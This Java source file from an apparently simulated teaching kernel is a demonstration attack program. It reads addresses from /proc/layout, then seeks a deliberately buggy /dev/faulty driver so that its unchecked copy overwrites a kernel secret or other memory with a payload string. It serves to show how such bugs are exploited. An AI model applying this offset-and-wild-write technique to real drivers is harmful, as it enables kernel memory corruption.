package mpkernel.user.programs;

import java.lang.foreign.MemorySegment;
import java.nio.charset.StandardCharsets;
import java.util.List;

import mpkernel.kernel.api.Program;
import mpkernel.kernel.api.Sys;
import mpkernel.kernel.api.UserProgram;

/**
 * {@code attack-wild-write}: drives the unsafe kernel's planted bug. It reads where the kernel
 * secret and the {@code /dev/faulty} driver buffer lie from {@code /proc/layout}, seeks the
 * device to their distance and writes: the driver's unchecked copy lands on the safe kernel's
 * secret. The program itself uses only system calls; the wild write is the unsafe kernel's.
 */
@Program(name = "attack-wild-write", description = "ATTACK: make the faulty driver write past its buffer: into the kernel secret (default), or [unsafe|user] memory")
public final class AttackWildWrite implements UserProgram {

    /** What the attack writes over the secret. */
    static final String PAYLOAD = "PWNED-BY-A-WILD-DRIVER-WRITE!!!!";

    @Override
    public int main(Sys sys, List<String> args) {
        String target = args.isEmpty() ? "secret" : args.getFirst();
        if (!List.of("secret", "unsafe", "user").contains(target)) {
            sys.write(Sys.STDERR, "usage: attack-wild-write [secret|unsafe|user]\n");
            return 2;
        }
        MemorySegment buf = sys.malloc(4096);
        try {
            int fd = sys.open("/proc/layout", Sys.O_RDONLY);
            long n = sys.read(fd, buf);
            sys.close(fd);
            long secret = -1;
            long driverBuffer = -1;
            long unsafeRegion = -1;
            long userRegion = -1;
            for (String line : new String(buf.asSlice(0, n).toArray(java.lang.foreign.ValueLayout.JAVA_BYTE),
                    StandardCharsets.UTF_8).split("\n")) {
                String[] f = line.split(" ");
                if (f[0].equals("secret")) {
                    secret = Long.parseUnsignedLong(f[1].substring(2), 16);
                } else if (f[0].equals("faulty-buffer")) {
                    driverBuffer = Long.parseUnsignedLong(f[1].substring(2), 16);
                } else if (f[0].equals("region") && f[1].equals("UNSAFE_KERNEL")) {
                    unsafeRegion = Long.parseUnsignedLong(f[2].substring(2), 16);
                } else if (f[0].equals("region") && f[1].equals("USER")) {
                    userRegion = Long.parseUnsignedLong(f[2].substring(2), 16);
                }
            }
            byte[] payload = PAYLOAD.getBytes(StandardCharsets.US_ASCII);
            MemorySegment.copy(MemorySegment.ofArray(payload), 0, buf, 0, payload.length);
            // the unsafe-kernel and user targets lie a megabyte into their regions, clear of live data
            long aim = switch (target) {
                case "unsafe" -> unsafeRegion + (1 << 20);
                case "user" -> userRegion + (1 << 20);
                default -> secret;
            };
            long offset = aim - driverBuffer;
            sys.write(Sys.STDOUT, String.format("attack-wild-write: /dev/faulty buffer at 0x%x, target (%s) at 0x%x, seeking %d%n",
                    driverBuffer, target, aim, offset));
            int dev = sys.open("/dev/faulty", Sys.O_WRONLY);
            sys.lseek(dev, offset, Sys.SEEK_SET);
            long written = sys.write(dev, buf.asSlice(0, payload.length));
            sys.close(dev);
            sys.write(Sys.STDOUT, "attack-wild-write: the driver wrote " + written + " bytes at the " + target + " target\n");
            return 0;
        } finally {
            sys.free(buf);
        }
    }
}
